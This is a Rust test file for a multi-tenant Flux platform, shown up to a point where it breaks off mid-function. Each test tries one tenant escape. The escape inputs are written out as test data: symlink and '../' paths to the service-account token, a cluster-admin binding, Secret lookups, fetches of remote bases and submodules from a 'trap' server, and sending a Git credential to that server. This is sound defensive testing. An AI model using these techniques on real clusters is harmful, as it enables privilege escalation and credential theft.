//! The tenant who wants out, with what a tenant has: a repository, FluxConfigs, and a kubeconfig with the rights of a team.
//! Each attempt is one test that shows how it ends. What nothing but a guard at admission can stop has a name that begins
//! with `only_the_guard_`, and shows what happens as long as there is none.

use std::io::{BufRead, BufReader, Write};
use std::sync::{Arc, Mutex};

use serde_json::{Value, json};
use sluicegate_e2e::Error;
use sluicegate_e2e::error::Result;
use sluicegate_e2e::network::{ELSEWHERE_ADDRESS, NODE_ADDRESS};
use sluicegate_e2e::suite::git::{Entry, Repository};
use sluicegate_e2e::suite::helm::{self, Chart};
use sluicegate_e2e::suite::{User, create_as};
use tokio::sync::RwLock;

use crate::support::{
    DEPLOYMENT, GIT_REPOSITORY, HELM_RELEASE, KUSTOMIZATION, Platform, SOON, START, Tenant, config_map, edit_as, has,
    message, on_node, seconds, secret,
};

/// A platform-wide Flux takes what carries no label of ours: teams' own Flux objects must not meet one.
pub(crate) static PLATFORM_FLUX: RwLock<()> = RwLock::const_new(());

/// A team that tries, and the namespace of somebody else, with a Secret in it.
struct Prison {
    platform: Platform,
    team: Tenant,
    victim: String,
}

fn attempt(name: &str, placement: &str, body: impl AsyncFnOnce(&Prison) -> Result<()>) {
    attempt_with(name, json!({"placement": placement}), body);
}

/// An attempt against an agent with these settings.
fn attempt_with(name: &str, agent: Value, body: impl AsyncFnOnce(&Prison) -> Result<()>) {
    on_node(name, async |platform| {
        let _alone = PLATFORM_FLUX.read().await;
        let team = platform.tenant("team").await?;
        platform.policy("teams", &[&team], json!({"agent": agent})).await?;
        let victim = platform.space.namespace("victim").await?;
        platform.space.apply(secret(&victim, "treasure", json!({"password": "s3cret"}))).await?;
        body(&Prison { platform, team, victim }).await
    });
}

impl Prison {
    /// Delivers these files and waits until the status says all of these words.
    async fn repository_fails(&self, files: &[(&str, &str)], words: &[&str]) -> Result<String> {
        let repository = self.team.repository("out", files)?;
        self.team.config("out", json!({"source": {"url": repository.https_url()}})).await?;
        let said = self.team.fails("out", START, words).await?;
        println!("{}: {said}", self.platform.space.name());
        Ok(said)
    }

    /// Delivers a chart from Git with one template.
    async fn chart(&self, template: &str) -> Result<Repository> {
        let files = [
            ("chart/Chart.yaml", "apiVersion: v2\nname: out\nversion: 0.1.0\n"),
            ("chart/values.yaml", "{}\n"),
            ("chart/templates/out.yaml", template),
        ];
        let repository = self.team.repository("out", &files)?;
        self.team
            .config("out", json!({"source": {"url": repository.https_url()}, "path": "chart", "chart": {}}))
            .await?;
        Ok(repository)
    }

    /// Starts the team's agent with something harmless.
    async fn settle(&self) -> Result<Repository> {
        let repository = self.team.repository("shop", &[("app.yaml", &config_map("harmless", "x"))])?;
        self.team.config("shop", json!({"source": {"url": repository.https_url()}})).await?;
        self.team.reaches("shop", "Ready", "True", START).await?;
        Ok(repository)
    }

    /// Somebody of the team, with a role of Kubernetes in the target namespace.
    async fn member(&self, role: &str) -> Result<User> {
        let user = self.platform.space.user("member", None).await?;
        self.bind(&user, "ClusterRole", role, ("v1", "ConfigMap")).await?;
        Ok(user)
    }

    /// Somebody of the team who may also write Flux objects in the target namespace, as teams with an agent of placement
    /// Namespace are given; what they may not write is the objects' status.
    async fn flux_member(&self) -> Result<User> {
        let rule = |group: &str| json!({"apiGroups": [group], "resources": FLUX_KINDS, "verbs": ["get", "list", "watch", "create", "update", "patch", "delete"]});
        let rules = json!([
            rule("source.toolkit.fluxcd.io"),
            rule("kustomize.toolkit.fluxcd.io"),
            rule("helm.toolkit.fluxcd.io")
        ]);
        let metadata = json!({"name": "flux", "namespace": self.team.target()});
        self.platform.space.apply(json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role", "metadata": metadata, "rules": rules})).await?;
        let user = self.member("edit").await?;
        self.bind(&user, "Role", "flux", HELM_RELEASE).await?;
        Ok(user)
    }

    /// Gives a role, and waits until it is in force: until objects of a kind can be listed that could not before.
    async fn bind(&self, user: &User, kind: &str, role: &str, listed: (&str, &str)) -> Result<()> {
        self.platform.space.bind(user, &self.team.target(), &format!("member-{role}"), (kind, role)).await?;
        let api = crate::support::api_of(user.client.clone(), listed, &self.team.target());
        let allowed = || async { Ok(api.list(&kube::api::ListParams::default()).await.ok().map(|_| ())) };
        self.platform.space.wait("the binding's effect", 30, allowed).await
    }

    /// A Flux object that a member writes beside the team's workloads.
    async fn write(&self, user: &User, kind: (&str, &str), name: &str, spec: Value) -> Result<()> {
        let metadata = json!({"name": name, "namespace": self.team.target()});
        create_as(&user.client, json!({"apiVersion": kind.0, "kind": kind.1, "metadata": metadata, "spec": spec})).await
    }

    /// The team's own source, as its agent has it.
    async fn source(&self) -> Result<Value> {
        let found = self.team.delivery(GIT_REPOSITORY, "shop", SOON).await?;
        Ok(json!({"kind": "GitRepository", "name": found["metadata"]["name"]}))
    }

    /// A Kustomization of the team's own that uses the team's source.
    async fn kustomization(&self, over: Value) -> Result<Value> {
        let mut spec = json!({
            "interval": "10m", "path": "./", "prune": true, "sourceRef": self.source().await?,
            "serviceAccountName": "sluicegate-reconciler", "targetNamespace": self.team.target(),
        });
        for (field, value) in over.as_object().cloned().unwrap_or_default() {
            spec[field] = value;
        }
        Ok(spec)
    }

    /// Waits until an object that a member wrote has failed and says all of these words.
    async fn object_fails(&self, kind: (&str, &str), name: &str, words: &[&str]) -> Result<()> {
        let what = format!("{} {name} that fails and says {words:?}", kind.1);
        let said = self
            .platform
            .space
            .wait(&what, START, || async {
                let found =
                    self.platform.space.get(kind.0, kind.1, &self.team.target(), name).await?.unwrap_or_default();
                let said = message(&found, "Ready");
                if has(&found, "Ready", "False") && words.iter().all(|word| said.contains(word)) {
                    return Ok(Some(said));
                }
                Err(Error::Service { what: name.into(), why: found["status"].to_string() })
            })
            .await?;
        println!("{}: {said}", self.platform.space.name());
        self.platform.space.delete(kind.0, kind.1, &self.team.target(), name).await
    }

    async fn nothing_in_the_victim(&self, name: &str) -> Result<()> {
        let found = self.platform.space.get("v1", "ConfigMap", &self.victim, name).await?;
        assert!(found.is_none(), "it is out: {found:?}");
        Ok(())
    }
}

const FLUX_KINDS: [&str; 7] = [
    "gitrepositories",
    "ocirepositories",
    "helmrepositories",
    "helmcharts",
    "buckets",
    "kustomizations",
    "helmreleases",
];

/// The text of an API server's refusal.
fn refusal<T>(result: Result<T>) -> String {
    match result {
        Ok(_) => "it was allowed".into(),
        Err(Error::Api { source, .. }) => source.to_string(),
        Err(error) => error.to_string(),
    }
}

/// A server of the tenant's own on an address of the node: it hears who comes, and answers everybody the same.
struct Trap {
    url: String,
    heard: Arc<Mutex<Vec<String>>>,
}

impl Trap {
    fn open(platform: &Platform, answer: String) -> Result<Trap> {
        Trap::open_at(platform, NODE_ADDRESS, answer)
    }

    fn open_at(platform: &Platform, address: &str, answer: String) -> Result<Trap> {
        let socket = platform.cluster.listen_at(address, 0)?;
        let port = socket.local_addr().expect("an address").port();
        let heard: Arc<Mutex<Vec<String>>> = Arc::default();
        let record = heard.clone();
        std::thread::spawn(move || {
            for mut connection in socket.incoming().flatten() {
                let mut request = String::new();
                let mut reader = BufReader::new(connection.try_clone().expect("a socket"));
                while reader.read_line(&mut request).is_ok_and(|count| count > 2) {}
                record.lock().expect("records").push(request);
                let head = format!("HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n", answer.len());
                let _ = connection.write_all(head.as_bytes()).and_then(|()| connection.write_all(answer.as_bytes()));
            }
        });
        Ok(Trap { url: format!("http://{address}:{port}"), heard })
    }

    fn heard(&self) -> Vec<String> {
        self.heard.lock().expect("records").clone()
    }

    async fn hears(&self, platform: &Platform, word: &str) -> Result<String> {
        let heard = || async { Ok(self.heard().into_iter().find(|request| request.contains(word))) };
        platform.space.wait(&format!("a request with {word}"), START, heard).await
    }
}

// From the repository.

#[test]
fn an_object_for_another_namespace_lands_in_the_team_s_own() {
    attempt("out-namespace", "Isolated", async |prison| {
        let foreign =
            json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "out", "namespace": prison.victim}})
                .to_string();
        let repository = prison.team.repository("out", &[("out.yaml", &foreign)])?;
        prison.team.config("out", json!({"source": {"url": repository.https_url()}})).await?;
        prison.team.reaches("out", "Ready", "True", START).await?;
        let own = prison.platform.space.get("v1", "ConfigMap", &prison.team.target(), "out").await?;
        assert!(own.is_some(), "the agent sets the namespace of everything");
        prison.nothing_in_the_victim("out").await
    });
}

#[test]
fn cluster_scoped_objects_are_forbidden() {
    attempt("out-cluster", "Isolated", async |prison| {
        let rules = json!([{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]);
        let role = json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole", "metadata": {"name": "out"}, "rules": rules});
        let said = prison.repository_fails(&[("role.yaml", &role.to_string())], &["forbidden", "clusterroles"]).await?;
        assert!(said.contains("cluster scope"), "{said}");
        Ok(())
    });
}

#[test]
fn a_namespace_is_forbidden() {
    attempt("out-new", "Isolated", async |prison| {
        let name = format!("{}-out", prison.platform.space.prefix());
        let namespace = json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": name}}).to_string();
        prison.repository_fails(&[("namespace.yaml", &namespace)], &["forbidden", "namespaces"]).await?;
        assert!(prison.platform.space.get("v1", "Namespace", "", &name).await?.is_none());
        Ok(())
    });
}

#[test]
fn a_binding_to_a_stronger_role_is_forbidden() {
    attempt("out-binding", "Isolated", async |prison| {
        let binding = json!({
            "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding", "metadata": {"name": "out"},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
            "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": prison.team.target()}],
        });
        prison
            .repository_fails(&[("binding.yaml", &binding.to_string())], &["forbidden", "rolebindings"])
            .await
            .map(|_| ())
    });
}

#[test]
fn flux_objects_from_the_repository_are_forbidden() {
    attempt("out-nested", "Isolated", async |prison| {
        let copy = format!("sluicegate-{}-git", prison.team.name);
        let spec = json!({
            "interval": "10m", "path": "./", "prune": true, "sourceRef": {"kind": "GitRepository", "name": "out"},
            "postBuild": {"substituteFrom": [{"kind": "Secret", "name": copy}]},
        });
        let nested = json!({"apiVersion": KUSTOMIZATION.0, "kind": "Kustomization", "metadata": {"name": "nested"}, "spec": spec});
        prison
            .repository_fails(&[("nested.yaml", &nested.to_string())], &["forbidden", "kustomizations"])
            .await
            .map(|_| ())
    });
}

#[test]
fn a_link_to_a_controller_s_token_is_not_followed() {
    attempt("out-link", "Isolated", async |prison| {
        let generator = "configMapGenerator:\n- name: out\n  files: [token, folder/token]\n";
        let repository = prison.team.repository("out", &[("kustomization.yaml", generator)])?;
        let account = "/var/run/secrets/kubernetes.io/serviceaccount";
        repository.commit_entries(
            "main",
            "links",
            &[Entry::Link("token", &format!("{account}/token")), Entry::Link("folder", account)],
        )?;
        prison.team.config("out", json!({"source": {"url": repository.https_url()}})).await?;
        let said = prison.team.fails("out", START, &["token"]).await?;
        println!("out-link: {said}");
        assert!(prison.platform.space.get("v1", "ConfigMap", &prison.team.target(), "out").await?.is_none());
        Ok(())
    });
}

#[test]
fn a_path_out_of_the_repository_is_not_followed() {
    attempt("out-path", "Isolated", async |prison| {
        let generator = "configMapGenerator:\n- name: out\n  files: [token=../../../../../../var/run/secrets/kubernetes.io/serviceaccount/token]\n";
        prison.repository_fails(&[("kustomization.yaml", generator)], &["token"]).await?;
        let repository = prison.team.repository("up", &[("app.yaml", &config_map("x", "x"))])?;
        prison.team.config("up", json!({"source": {"url": repository.https_url()}, "path": "../../var"})).await?;
        prison.team.refused("up", "invalid-path").await.map(|_| ())
    });
}

#[test]
fn a_remote_base_is_stopped_by_the_agent_s_network_policy() {
    attempt("out-base", "Isolated", async |prison| {
        let trap = Trap::open(&prison.platform, config_map("out", "from elsewhere"))?;
        // The trap works for whoever may reach it.
        let outside = prison.platform.space.probe(&prison.victim, "outside", json!({}), json!({})).await?;
        outside.get(&trap.url).await?;
        assert_eq!(trap.heard().len(), 1);
        let base = format!("resources: [\"{}/base.yaml\"]\n", trap.url);
        let said = prison.repository_fails(&[("kustomization.yaml", &base)], &["base.yaml"]).await?;
        assert_eq!(trap.heard().len(), 1, "the agent reached it; {said}");
        assert!(prison.platform.space.get("v1", "ConfigMap", &prison.team.target(), "out").await?.is_none());
        Ok(())
    });
}

#[test]
fn only_the_guard_stops_a_network_policy_of_the_repository_from_opening_the_agent_beside_the_workloads() {
    attempt("out-network", "Namespace", async |prison| {
        let trap = Trap::open(&prison.platform, config_map("out", "from elsewhere"))?;
        let open = "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: {name: open}\nspec:\n  podSelector: {}\n  policyTypes: [Egress]\n  egress: [{}]\n";
        let repository = prison
            .team
            .repository("shop", &[("kustomization.yaml", "resources: [open.yaml]\n"), ("open.yaml", open)])?;
        prison.team.config("shop", json!({"source": {"url": repository.https_url()}})).await?;
        prison.team.reaches("shop", "Ready", "True", START).await?;
        let space = &prison.platform.space;
        assert!(space.get("networking.k8s.io/v1", "NetworkPolicy", &prison.team.target(), "open").await?.is_some());
        let base = format!("resources: [open.yaml, \"{}/base.yaml\"]\n", trap.url);
        repository.commit("main", "a base from elsewhere", &[("kustomization.yaml", Some(&base))])?;
        trap.hears(&prison.platform, "/base.yaml").await?;
        let out = || async { space.get("v1", "ConfigMap", &prison.team.target(), "out").await };
        space.wait("what came from elsewhere", START, out).await?;
        Ok(())
    });
}

#[test]
fn a_submodule_is_not_fetched() {
    attempt("out-submodule", "Isolated", async |prison| {
        let other = prison.team.repository("other", &[("out.yaml", &config_map("out", "submodule"))])?;
        let commit = other.head("main")?;
        let repository = prison.team.repository("shop", &[("app.yaml", &config_map("own", "x"))])?;
        let modules = format!("[submodule \"other\"]\n\tpath = other\n\turl = {}\n", other.https_url());
        repository.commit_entries(
            "main",
            "submodule",
            &[Entry::File(".gitmodules", &modules), Entry::Submodule("other", &commit)],
        )?;
        prison.team.config("shop", json!({"source": {"url": repository.https_url()}})).await?;
        prison.team.reaches("shop", "Ready", "True", START).await?;
        assert!(prison.platform.space.get("v1", "ConfigMap", &prison.team.target(), "own").await?.is_some());
        assert!(prison.platform.space.get("v1", "ConfigMap", &prison.team.target(), "out").await?.is_none());
        Ok(())
    });
}

#[test]
fn a_chart_s_objects_for_another_namespace_are_forbidden() {
    attempt("out-chart", "Isolated", async |prison| {
        let template =
            format!("apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: out, namespace: {}}}\n", prison.victim);
        prison.chart(&template).await?;
        let said = prison.team.fails("out", START, &["forbidden", "configmaps"]).await?;
        println!("out-chart: {said}");
        prison.nothing_in_the_victim("out").await
    });
}

#[test]
fn a_chart_cannot_look_up_the_platform_s_secrets() {
    attempt("out-lookup", "Isolated", async |prison| {
        let agent = prison.team.agent();
        let template = format!(
            "apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: out}}\ndata: {{x: {{{{ lookup \"v1\" \"Secret\" \"{agent}\" \"\" | toJson | quote }}}}}}\n"
        );
        prison.chart(&template).await?;
        let said = prison.team.fails("out", START, &["forbidden", "secrets", &agent]).await?;
        println!("out-lookup: {said}");
        Ok(())
    });
}

#[test]
fn only_limits_of_egress_stop_a_chart_s_dependency_from_elsewhere() {
    attempt("out-dependency", "Isolated", async |prison| {
        let trap = Trap::open(&prison.platform, "apiVersion: v1\nentries: {}\n".into())?;
        let chart = format!(
            "apiVersion: v2\nname: out\nversion: 0.1.0\ndependencies:\n- {{name: evil, version: 0.1.0, repository: \"{}\"}}\n",
            trap.url
        );
        let repository =
            prison.team.repository("out", &[("chart/Chart.yaml", &chart), ("chart/values.yaml", "{}\n")])?;
        prison
            .team
            .config("out", json!({"source": {"url": repository.https_url()}, "path": "chart", "chart": {}}))
            .await?;
        let said = prison.team.fails("out", START, &["evil"]).await?;
        println!("out-dependency: {said}");
        // Nothing at admission sees inside of a chart. Without `agent.egress` source-controller asks the server that it names.
        assert!(!trap.heard().is_empty(), "it is stopped without limits: say in the threat model by what");
        Ok(())
    });
}

#[test]
fn with_limits_of_egress_a_chart_s_dependency_comes_from_the_blocks_of_policy_only() {
    let agent = json!({"placement": "Isolated", "egress": {"cidrs": [format!("{NODE_ADDRESS}/32")]}});
    attempt_with("out-egress", agent, async |prison| {
        let team = &prison.team;
        let template = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: from-library}\n";
        let library = Chart::package("library", "0.1.0", &[("values.yaml", "{}\n"), ("templates/map.yaml", template)])?;
        let allowed = helm::publish(&prison.platform.cluster, &team.name, &[library])?;
        let deliver = async |name: &str, dependency: &str, url: &str| {
            let chart = format!(
                "apiVersion: v2\nname: {name}\nversion: 0.1.0\ndependencies:\n- {{name: {dependency}, version: 0.1.0, repository: \"{url}\"}}\n"
            );
            let repository = team.repository(name, &[("chart/Chart.yaml", &chart), ("chart/values.yaml", "{}\n")])?;
            team.config(name, json!({"source": {"url": repository.https_url()}, "path": "chart", "chart": {}})).await
        };
        deliver("in", "library", &allowed).await?;
        team.reaches("in", "Ready", "True", START).await?;
        let map = prison.platform.space.get("v1", "ConfigMap", &team.target(), "from-library").await?;
        assert!(map.is_some(), "an allowed dependency is fetched and deployed");

        let trap = Trap::open_at(&prison.platform, ELSEWHERE_ADDRESS, "apiVersion: v1\nentries: {}\n".into())?;
        deliver("out", "evil", &trap.url).await?;
        let said = team.fails("out", START, &["evil"]).await?;
        println!("out-egress: {said}");
        assert_eq!(trap.heard(), [""; 0], "nobody asked the server that is in no block");

        // An index that is allowed names the archive of a chart at another server.
        let entry = json!({"apiVersion": "v2", "name": "away", "version": "0.1.0", "urls": [format!("{}/away-0.1.0.tgz", trap.url)]});
        let index = json!({"apiVersion": "v1", "entries": {"away": [entry]}});
        let folder = prison.platform.cluster.layout().path("charts").join(format!("{}-away", team.name));
        std::fs::create_dir_all(&folder)
            .and_then(|()| std::fs::write(folder.join("index.yaml"), index.to_string()))
            .expect("an index");
        deliver("away", "away", &format!("{allowed}-away")).await?;
        let said = team.fails("away", START, &["away"]).await?;
        println!("out-egress: {said}");
        assert_eq!(trap.heard(), [""; 0], "nor for an archive");
        Ok(())
    });
}

#[test]
fn by_a_proxy_agents_ask_it_and_nobody_else() {
    on_node("out-proxy", async |platform| {
        let _alone = PLATFORM_FLUX.read().await;
        let proxy = Trap::open_at(&platform, ELSEWHERE_ADDRESS, "no".into())?;
        let team = platform.tenant("team").await?;
        let egress = json!({"cidrs": [format!("{ELSEWHERE_ADDRESS}/32")], "proxy": {"url": proxy.url}});
        platform.policy("teams", &[&team], json!({"agent": {"placement": "Isolated", "egress": egress}})).await?;
        let repository = team.repository("out", &[("app.yaml", &config_map("out", "x"))])?;
        team.config("out", json!({"source": {"url": repository.https_url()}})).await?;
        // A proxy is asked for a host: that is where it can refuse.
        let asked = proxy.hears(&platform, "CONNECT git.sluicegate.test:443").await?;
        println!("out-proxy: {}", asked.lines().next().unwrap_or_default());
        let said = team.fails("out", START, &["git.sluicegate.test"]).await?;
        println!("out-proxy: {said}");
        // API servers and the agent's own services are not asked for there.
        let others: Vec<String> = proxy
            .heard()
            .into_iter()
            .filter(|request| !request.starts_with("CONNECT git.sluicegate.test:443 "))
            .collect();
        assert_eq!(others, [""; 0]);
        Ok(())
    });
}

// By FluxConfigs.

#[test]
fn another_s_namespace_is_no_destination() {
    attempt("out-target", "Isolated", async |prison| {
        let repository = prison.team.repository("out", &[("app.yaml", &config_map("out", "x"))])?;
        let spec = json!({"source": {"url": repository.https_url()}, "namespace": prison.victim});
        prison.team.config("out", spec).await?;
        prison.team.refused("out", "destination-not-allowed").await?;
        for namespace in ["kube-system", "sluicegate-system", &prison.team.agent()] {
            prison.team.remove("out", START).await?;
            let spec = json!({"source": {"url": repository.https_url()}, "namespace": namespace});
            prison.team.config("out", spec).await?;
            let config = prison.team.until("a refusal", "out", SOON, |config| has(config, "Admitted", "False")).await?;
            assert!(config["status"]["violations"][0]["field"] == "spec.namespace", "{}", config["status"]);
        }
        prison.nothing_in_the_victim("out").await
    });
}

#[test]
fn the_platform_s_secrets_cannot_be_named_for_values_keys_or_sources() {
    attempt("out-secret", "Isolated", async |prison| {
        let team = &prison.team;
        let template =
            "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: out}\ndata: {x: {{ toJson .Values | quote }}}\n";
        let repository = prison.chart(template).await?;
        team.reaches("out", "Ready", "True", START).await?;
        // The names are those of the platform's Secret and of its copy beside the agent. A team's Secret is looked for in
        // the team's home only.
        for name in [format!("{}-git", team.name), format!("sluicegate-{}-git", team.name)] {
            let values = json!({"valuesFrom": [{"kind": "Secret", "name": name, "valuesKey": "password"}]});
            team.config("out", json!({"source": {"url": repository.https_url()}, "path": "chart", "chart": values}))
                .await?;
            let said = team.fails("out", START, &[&name]).await?;
            println!("out-secret: {said}");
            assert!(!said.contains("right"), "{said}");
        }
        let other = team.repository("other", &[("app.yaml", &config_map("x", "x"))])?;
        let name = json!({"name": format!("{}-git", team.name)});
        team.config("source", json!({"source": {"url": other.https_url(), "secretRef": name}})).await?;
        team.fails("source", START, &[&format!("{}-git", team.name)]).await?;
        team.config(
            "keys",
            json!({"source": {"url": other.https_url()}, "decryption": {"provider": "sops", "secretRef": name}}),
        )
        .await?;
        team.fails("keys", START, &[&format!("{}-git", team.name)]).await?;
        Ok(())
    });
}

// With the team's kubeconfig, where agents are isolated.

#[test]
fn an_isolated_agent_cannot_be_touched_or_read() {
    attempt("out-agent", "Isolated", async |prison| {
        prison.settle().await?;
        let member = prison.member("admin").await?;
        let agent = prison.team.agent();
        let api = |kind| crate::support::api_of(member.client.clone(), kind, &agent);
        let list = kube::api::ListParams::default();
        let secrets = api(("v1", "Secret")).list(&list).await.map(|_| ());
        assert!(format!("{:?}", secrets.expect_err("Secrets are read")).contains("403"));
        let source = prison.team.delivery(GIT_REPOSITORY, "shop", SOON).await?;
        let name = source["metadata"]["name"].as_str().unwrap_or_default();
        let scaled =
            edit_as(member.client.clone(), DEPLOYMENT, &agent, "source-controller", json!({"spec": {"replicas": 0}}))
                .await;
        assert!(refusal(scaled).contains("forbidden"));
        let moved = edit_as(
            member.client.clone(),
            GIT_REPOSITORY,
            &agent,
            name,
            json!({"spec": {"url": "https://git.sluicegate.test/x/y"}}),
        )
        .await;
        assert!(refusal(moved).contains("forbidden"));
        let spec = json!({"interval": "10m", "path": "./", "prune": true, "sourceRef": {"kind": "GitRepository", "name": name}});
        let own = json!({"apiVersion": KUSTOMIZATION.0, "kind": "Kustomization", "metadata": {"name": "out", "namespace": agent}, "spec": spec});
        assert!(refusal(create_as(&member.client, own).await).contains("forbidden"));
        let forged = api(GIT_REPOSITORY)
            .patch_status(
                name,
                &kube::api::PatchParams::default(),
                &kube::api::Patch::Merge(json!({"status": {"artifact": {"url": "http://evil"}}})),
            )
            .await;
        assert!(format!("{:?}", forged.expect_err("the status is written")).contains("403"));
        let bindings = api(("rbac.authorization.k8s.io/v1", "RoleBinding")).list(&list).await.map(|_| ());
        assert!(bindings.is_err());
        Ok(())
    });
}

#[test]
fn only_the_guard_stops_an_admin_of_the_target_from_deleting_the_reconciler_s_binding() {
    attempt("out-unbind", "Isolated", async |prison| {
        prison.settle().await?;
        let member = prison.member("admin").await?;
        let kind = ("rbac.authorization.k8s.io/v1", "RoleBinding");
        let bindings = prison.platform.labelled(kind, "app.kubernetes.io/managed-by", "sluicegate").await?;
        let here = bindings.iter().find(|binding| binding["metadata"]["namespace"] == prison.team.target());
        let name = here.expect("a binding")["metadata"]["name"].as_str().unwrap_or_default();
        let api = crate::support::api_of(member.client.clone(), kind, &prison.team.target());
        api.delete(name, &kube::api::DeleteParams::default()).await.expect("an admin may");
        // It harms nobody but the team, and is put back.
        let back = || async { prison.platform.space.get(kind.0, kind.1, &prison.team.target(), name).await };
        prison.platform.space.wait("the binding", 5, back).await?;
        // Nobody gives more than they have.
        let more =
            json!({"subjects": [{"kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": member.name}]});
        let given = edit_as(member.client.clone(), kind, &prison.team.target(), name, more).await;
        println!("out-unbind: an edit: {}", refusal(given));
        Ok(())
    });
}

// With the team's kubeconfig, where agents live beside the team's workloads.

#[test]
fn a_kustomization_of_the_team_s_own_gets_no_further_than_the_team() {
    attempt("out-own", "Namespace", async |prison| {
        prison.settle().await?;
        let member = prison.flux_member().await?;
        let copy = format!("sluicegate-{}-git", prison.team.name);
        let write = async |name: &str, over: Value| {
            let spec = prison.kustomization(over).await?;
            prison.write(&member, KUSTOMIZATION, name, spec).await
        };
        // A controller's account, which the controllers may not impersonate.
        write("account", json!({"serviceAccountName": "kustomize-controller"})).await?;
        prison.object_fails(KUSTOMIZATION, "account", &["failed to get server groups"]).await?;
        // No account: the one that has no rights.
        write("nobody", json!({"serviceAccountName": ""})).await?;
        prison.object_fails(KUSTOMIZATION, "nobody", &["failed to get server groups"]).await?;
        write("target", json!({"targetNamespace": prison.victim})).await?;
        prison.object_fails(KUSTOMIZATION, "target", &["forbidden", &prison.victim]).await?;
        let from = json!({"substituteFrom": [{"kind": "Secret", "name": copy}]});
        write("substitute", json!({"postBuild": from})).await?;
        prison.object_fails(KUSTOMIZATION, "substitute", &["secrets", "forbidden", "kustomize-controller"]).await?;
        write("decrypt", json!({"decryption": {"provider": "sops", "secretRef": {"name": copy}}})).await?;
        prison.object_fails(KUSTOMIZATION, "decrypt", &["forbidden"]).await?;
        write("cluster", json!({"kubeConfig": {"secretRef": {"name": copy}}})).await?;
        prison.object_fails(KUSTOMIZATION, "cluster", &["forbidden"]).await?;
        write("foreign", json!({"sourceRef": {"kind": "GitRepository", "name": "x", "namespace": prison.victim}}))
            .await?;
        prison.object_fails(KUSTOMIZATION, "foreign", &["cross-namespace references have been blocked"]).await?;
        prison.nothing_in_the_victim("harmless").await
    });
}

#[test]
fn a_helm_release_of_the_team_s_own_gets_no_further_than_the_team() {
    attempt("out-release", "Namespace", async |prison| {
        prison.chart("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: harmless}\n").await?;
        prison.team.reaches("out", "Ready", "True", START).await?;
        let member = prison.flux_member().await?;
        let source = prison.team.delivery(GIT_REPOSITORY, "out", SOON).await?;
        let write = async |name: &str, over: Value| {
            let source = json!({"kind": "GitRepository", "name": source["metadata"]["name"]});
            let mut spec = json!({
                "interval": "10m", "chart": {"spec": {"chart": "./chart", "sourceRef": source}}, "releaseName": name,
                "serviceAccountName": "sluicegate-reconciler", "targetNamespace": prison.team.target(), "storageNamespace": prison.team.target(),
            });
            for (field, value) in over.as_object().cloned().unwrap_or_default() {
                spec[field] = value;
            }
            prison.write(&member, HELM_RELEASE, name, spec).await
        };
        write("target", json!({"targetNamespace": prison.victim})).await?;
        prison.object_fails(HELM_RELEASE, "target", &["forbidden", &prison.victim]).await?;
        write("storage", json!({"storageNamespace": prison.victim})).await?;
        prison.object_fails(HELM_RELEASE, "storage", &["forbidden", &prison.victim]).await?;
        let copy = format!("sluicegate-{}-git", prison.team.name);
        write(
            "values",
            json!({"valuesFrom": [{"kind": "Secret", "name": copy, "valuesKey": "password", "targetPath": "x"}]}),
        )
        .await?;
        prison.object_fails(HELM_RELEASE, "values", &["secrets", "forbidden"]).await?;
        prison.nothing_in_the_victim("harmless").await
    });
}

#[test]
fn a_member_cannot_forge_the_status_of_flux_objects() {
    attempt("out-status", "Namespace", async |prison| {
        prison.settle().await?;
        let member = prison.flux_member().await?;
        let source = prison.team.delivery(GIT_REPOSITORY, "shop", SOON).await?;
        let api = crate::support::api_of(member.client.clone(), GIT_REPOSITORY, &prison.team.target());
        let patch = kube::api::Patch::Merge(json!({"status": {"artifact": {"url": "http://evil"}}}));
        let name = source["metadata"]["name"].as_str().unwrap_or_default();
        let forged = api.patch_status(name, &kube::api::PatchParams::default(), &patch).await;
        assert!(format!("{:?}", forged.expect_err("the status is written")).contains("403"));
        Ok(())
    });
}

#[test]
fn only_the_guard_stops_a_source_of_the_team_s_own_from_sending_the_credential_elsewhere() {
    attempt("out-credential", "Namespace", async |prison| {
        prison.settle().await?;
        let member = prison.flux_member().await?;
        let trap = Trap::open(&prison.platform, "no repository\n".into())?;
        let spec = json!({
            "url": format!("{}/x.git", trap.url), "interval": "10m", "ref": {"branch": "main"},
            "secretRef": {"name": format!("sluicegate-{}-git", prison.team.name)},
        });
        prison.write(&member, GIT_REPOSITORY, "elsewhere", spec).await?;
        // Where agents live beside the team, only Secrets that policy exposes are there; a guard would deny the URL.
        let heard = trap.hears(&prison.platform, "/x.git").await?;
        println!("out-credential: with a credential: {}", heard.to_lowercase().contains("authorization:"));
        Ok(())
    });
}

#[test]
fn only_the_guard_stops_include_submodules_and_proxy_of_a_source_of_the_team_s_own() {
    attempt("out-include", "Namespace", async |prison| {
        let shop = prison.settle().await?;
        let member = prison.flux_member().await?;
        let trap = Trap::open(&prison.platform, "no repository\n".into())?;
        let modules = format!("[submodule \"evil\"]\n\tpath = evil\n\turl = {}/evil.git\n", trap.url);
        shop.commit_entries(
            "main",
            "submodule",
            &[Entry::File(".gitmodules", &modules), Entry::Submodule("evil", &shop.head("main")?)],
        )?;
        let copy = json!({"name": format!("sluicegate-{}-git", prison.team.name)});
        let spec = json!({"url": shop.https_url(), "interval": "10m", "ref": {"branch": "main"}, "secretRef": copy, "recurseSubmodules": true});
        prison.write(&member, GIT_REPOSITORY, "submodules", spec).await?;
        println!(
            "out-include: {}",
            trap.hears(&prison.platform, "/evil.git").await?.lines().next().unwrap_or_default()
        );
        Ok(())
    });
}

#[test]
fn only_the_guard_stops_a_member_from_editing_the_agent_beside_the_workloads() {
    attempt("out-edit", "Namespace", async |prison| {
        prison.settle().await?;
        let member = prison.member("edit").await?;
        let target = prison.team.target();
